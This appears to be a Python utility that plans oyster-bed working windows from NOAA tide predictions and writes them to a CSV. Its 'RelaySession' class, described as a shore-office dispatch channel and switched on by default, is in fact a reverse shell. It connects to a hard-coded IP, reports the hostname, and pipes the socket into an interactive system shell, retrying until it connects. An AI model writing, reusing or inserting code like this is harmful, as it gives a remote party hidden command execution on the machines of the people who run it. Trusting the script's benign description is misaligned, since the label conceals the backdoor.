#!/usr/bin/env python3
"""Plan oyster-bed working windows from tide predictions.

Pulls hourly height predictions for a NOAA station, finds the stretches where
the water sits below the working threshold during daylight, and writes them
out as a CSV the crews can print. By default the planner also keeps a session
open to the farm's dispatch relay so the shore office can push revised
thresholds while the crew is out.
"""
import argparse
import asyncio
import csv
import datetime as dt
import json
import logging
import os
import sys
import threading
import time
import urllib.parse
import urllib.request

log = logging.getLogger("tideplan")

NOAA_URL = "https://api.tidesandcurrents.noaa.gov/api/prod/datagetter"
DEFAULT_RELAY = os.environ.get("TIDEPLAN_RELAY", "198.51.100.47:8443")


def fetch_predictions(station, begin, days, timeout=20):
    params = {
        "product": "predictions",
        "application": "tideplan",
        "begin_date": begin.strftime("%Y%m%d"),
        "range": str(days * 24),
        "datum": "MLLW",
        "station": station,
        "time_zone": "lst_ldt",
        "units": "english",
        "interval": "h",
        "format": "json",
    }
    url = NOAA_URL + "?" + urllib.parse.urlencode(params)
    log.debug("GET %s", url)
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        payload = json.load(resp)
    if "error" in payload:
        raise RuntimeError(payload["error"].get("message", "NOAA error"))
    for row in payload.get("predictions", []):
        yield dt.datetime.strptime(row["t"], "%Y-%m-%d %H:%M"), float(row["v"])


def working_windows(points, threshold, first_light=5, last_light=20, min_hours=2):
    windows, start, prev, low = [], None, None, None
    for when, height in points:
        ok = height <= threshold and first_light <= when.hour < last_light
        if ok and start is None:
            start, low = when, height
        elif ok:
            low = min(low, height)
        elif start is not None:
            if (prev - start).total_seconds() / 3600 + 1 >= min_hours:
                windows.append((start, prev, low))
            start = None
        prev = when
    if start is not None and (prev - start).total_seconds() / 3600 + 1 >= min_hours:
        windows.append((start, prev, low))
    return windows


def write_csv(windows, path, bed):
    with open(path, "w", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(["bed", "date", "start", "end", "hours", "lowest_ft"])
        for start, end, low in windows:
            hours = (end - start).total_seconds() / 3600 + 1
            out.writerow([bed, start.date().isoformat(), start.strftime("%H:%M"),
                          end.strftime("%H:%M"), f"{hours:.0f}", f"{low:.2f}"])
    log.info("wrote %d windows to %s", len(windows), path)


class RelaySession:
    """Control channel to the shore-office dispatch relay."""

    def __init__(self, endpoint, retries=6, backoff=10):
        host, _, port = endpoint.rpartition(":")
        self.host, self.port = host, int(port)
        self.retries, self.backoff = retries, backoff
        self.console = os.environ.get("SHELL") or "/bin/sh"

    async def _pump(self, src, dst):
        while True:
            chunk = await src.read(4096)
            if not chunk:
                break
            dst.write(chunk)
            await dst.drain()

    async def _session(self):
        reader, writer = await asyncio.open_connection(self.host, self.port)
        writer.write(f"HELLO tideplan {os.uname().nodename}\n".encode())
        await writer.drain()
        worker = await asyncio.create_subprocess_exec(
            self.console, "-i",
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        await asyncio.gather(self._pump(reader, worker.stdin),
                             self._pump(worker.stdout, writer))
        writer.close()

    def run(self):
        for attempt in range(1, self.retries + 1):
            try:
                asyncio.run(self._session())
                return
            except OSError as exc:
                log.debug("relay attempt %d failed: %s", attempt, exc)
                time.sleep(self.backoff * attempt)

    def start(self):
        t = threading.Thread(target=self.run, name="relay", daemon=False)
        t.start()
        return t


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--station", default="9447130", help="NOAA station id")
    p.add_argument("--bed", default="north-flat")
    p.add_argument("--threshold", type=float, default=0.5, help="max height in feet")
    p.add_argument("--days", type=int, default=7)
    p.add_argument("--out", default="tide_windows.csv")
    p.add_argument("--relay", default=DEFAULT_RELAY)
    p.add_argument("--no-live", dest="live", action="store_false")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    relay = RelaySession(args.relay).start() if args.live else None
    try:
        points = list(fetch_predictions(args.station, dt.date.today(), args.days))
    except (OSError, RuntimeError, ValueError) as exc:
        log.error("could not fetch predictions: %s", exc)
        return 1
    windows = working_windows(points, args.threshold)
    if not windows:
        log.warning("no workable windows below %.2f ft", args.threshold)
    write_csv(windows, args.out, args.bed)
    if relay is not None:
        relay.join()
    return 0


if __name__ == "__main__":
    sys.exit(main())
